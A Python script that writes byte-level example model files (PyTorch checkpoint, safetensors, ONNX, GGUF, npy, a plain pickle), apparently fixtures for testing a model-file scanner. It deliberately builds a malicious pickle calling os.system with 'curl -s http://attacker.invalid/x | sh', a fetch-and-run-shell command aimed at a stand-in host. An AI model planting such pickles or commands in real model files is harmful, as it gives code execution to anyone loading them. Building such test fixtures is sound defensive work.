"""Write the small model files of the example estate (``examples/estate/models/``).

Every file is built byte by byte from its published format, so this script needs only the standard
library and never imports a machine-learning framework. Run it once from anywhere::

    python examples/make_models.py

The outputs are committed; re-running rewrites identical bytes.

``classifier.pt`` is a **malicious** PyTorch-style checkpoint: its ``data.pkl`` holds pickle opcodes
that would run ``os.system(...)`` if the file were unpickled (``torch.load`` without
``weights_only=True``, ``pickle.load``). It is assembled from raw opcodes here and must never be
loaded; the command it names points to a reserved ``.invalid`` host.
"""

from __future__ import annotations

import json
import pickle
import struct
import zipfile
from pathlib import Path

MODELS = Path(__file__).resolve().parent / "estate" / "models"

# A fixed timestamp keeps the zip bytes identical from run to run.
_ZIP_DATE = (2024, 1, 1, 0, 0, 0)

PAYLOAD_COMMAND = "curl -s http://attacker.invalid/x | sh"


def malicious_pickle(command: str) -> bytes:
    """Pickle opcodes equivalent to ``os.system(command)``, written without pickling any object.

    PROTO 2, GLOBAL 'os system', BINUNICODE command, TUPLE1, REDUCE, STOP.
    """
    encoded = command.encode("utf-8")
    return b"".join(
        [
            b"\x80\x02",  # PROTO 2
            b"cos\nsystem\n",  # GLOBAL 'os' 'system'
            b"X" + struct.pack("<I", len(encoded)) + encoded,  # BINUNICODE
            b"\x85",  # TUPLE1
            b"R",  # REDUCE: call os.system(command)
            b".",  # STOP
        ]
    )


def _zip_entry(archive: zipfile.ZipFile, name: str, data: bytes) -> None:
    info = zipfile.ZipInfo(name, date_time=_ZIP_DATE)
    info.compress_type = zipfile.ZIP_STORED  # PyTorch stores its members uncompressed
    archive.writestr(info, data)


def write_pytorch_zip(path: Path) -> None:
    """A PyTorch >= 1.6 style zip checkpoint whose ``archive/data.pkl`` is the malicious pickle."""
    with zipfile.ZipFile(path, "w") as archive:
        _zip_entry(archive, "archive/data.pkl", malicious_pickle(PAYLOAD_COMMAND))
        _zip_entry(archive, "archive/byteorder", b"little")
        _zip_entry(archive, "archive/version", b"3\n")


def write_safetensors(path: Path) -> None:
    """A benign safetensors file: one F32 tensor of zeros, header padded to 8 bytes."""
    rows, cols = 64, 32
    nbytes = rows * cols * 4
    header = {
        "__metadata__": {"format": "pt"},
        "embeddings.weight": {"dtype": "F32", "shape": [rows, cols], "data_offsets": [0, nbytes]},
    }
    text = json.dumps(header, separators=(",", ":")).encode("utf-8")
    text += b" " * (-len(text) % 8)
    path.write_bytes(struct.pack("<Q", len(text)) + text + bytes(nbytes))


def write_plain_pickle(path: Path) -> None:
    """A joblib-style label map: a pickle (protocol 4) of plain data only, nothing callable."""
    labels = {
        "labels": ["billing", "cancellation", "password", "shipping", "technical", "other"],
        "version": 3,
        "threshold": 0.35,
    }
    path.write_bytes(pickle.dumps(labels, protocol=4))


def _varint(value: int) -> bytes:
    out = bytearray()
    while True:
        byte = value & 0x7F
        value >>= 7
        if value:
            out.append(byte | 0x80)
        else:
            out.append(byte)
            return bytes(out)


def _field_varint(number: int, value: int) -> bytes:
    return _varint(number << 3) + _varint(value)


def _field_bytes(number: int, value: bytes) -> bytes:
    return _varint(number << 3 | 2) + _varint(len(value)) + value


def _value_info(name: str, dims: list[int | str]) -> bytes:
    """An ONNX ``ValueInfoProto`` of a float tensor with the given dimensions."""
    shape = b"".join(
        _field_bytes(1, _field_varint(1, d) if isinstance(d, int) else _field_bytes(2, d.encode()))
        for d in dims
    )
    tensor_type = _field_varint(1, 1) + _field_bytes(2, shape)  # elem_type FLOAT, shape
    type_proto = _field_bytes(1, tensor_type)
    return _field_bytes(1, name.encode()) + _field_bytes(2, type_proto)


def write_onnx(path: Path) -> None:
    """A minimal ONNX ``ModelProto``: one Identity node, float input and output, opset 17."""
    node = (
        _field_bytes(1, b"input")
        + _field_bytes(2, b"output")
        + _field_bytes(3, b"identity_0")
        + _field_bytes(4, b"Identity")
    )
    graph = (
        _field_bytes(1, node)
        + _field_bytes(2, b"main_graph")
        + _field_bytes(11, _value_info("input", ["batch", 384]))
        + _field_bytes(12, _value_info("output", ["batch", 384]))
    )
    opset = _field_bytes(1, b"") + _field_varint(2, 17)
    model = (
        _field_varint(1, 8)  # ir_version
        + _field_bytes(2, b"pytorch")  # producer_name
        + _field_bytes(3, b"2.0.1")  # producer_version
        + _field_varint(5, 1)  # model_version
        + _field_bytes(7, graph)
        + _field_bytes(8, opset)
    )
    path.write_bytes(model)


def _gguf_string(text: str) -> bytes:
    data = text.encode("utf-8")
    return struct.pack("<Q", len(data)) + data


def write_gguf(path: Path) -> None:
    """A GGUF v3 file: metadata (architecture, name, alignment) and one 16x16 F32 tensor of zeros."""
    gguf_uint32, gguf_string = 4, 8
    metadata = [
        ("general.architecture", gguf_string, "llama"),
        ("general.name", gguf_string, "tiny-intent-test"),
        ("general.alignment", gguf_uint32, 32),
    ]
    out = bytearray(b"GGUF")
    out += struct.pack("<IQQ", 3, 1, len(metadata))  # version, tensor count, metadata count
    for key, kind, value in metadata:
        out += _gguf_string(key) + struct.pack("<I", kind)
        out += _gguf_string(value) if isinstance(value, str) else struct.pack("<I", value)
    # tensor info: name, n_dims, dims, ggml type (0 = F32), offset within the data section
    out += _gguf_string("token_embd.weight") + struct.pack("<IQQIQ", 2, 16, 16, 0, 0)
    out += bytes(-len(out) % 32)
    out += bytes(16 * 16 * 4)
    path.write_bytes(bytes(out))


def write_npy(path: Path) -> None:
    """A NumPy ``.npy`` v1.0 file of float32 zeros, header written by hand."""
    rows, cols = 128, 32
    header = f"{{'descr': '<f4', 'fortran_order': False, 'shape': ({rows}, {cols}), }}".encode("latin-1")
    prefix_len = 6 + 2 + 2  # magic, version, header length
    header += b" " * (-(prefix_len + len(header) + 1) % 64) + b"\n"
    path.write_bytes(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + bytes(rows * cols * 4))


def main() -> None:
    """Write every model file and print its size."""
    MODELS.mkdir(parents=True, exist_ok=True)
    writers = {
        "classifier.pt": write_pytorch_zip,
        "embeddings.safetensors": write_safetensors,
        "intent.joblib": write_plain_pickle,
        "encoder.onnx": write_onnx,
        "tiny.gguf": write_gguf,
        "weights.npy": write_npy,
    }
    for name, writer in writers.items():
        target = MODELS / name
        writer(target)
        print(f"{target.relative_to(MODELS.parent.parent)}  {target.stat().st_size} bytes")


if __name__ == "__main__":
    main()
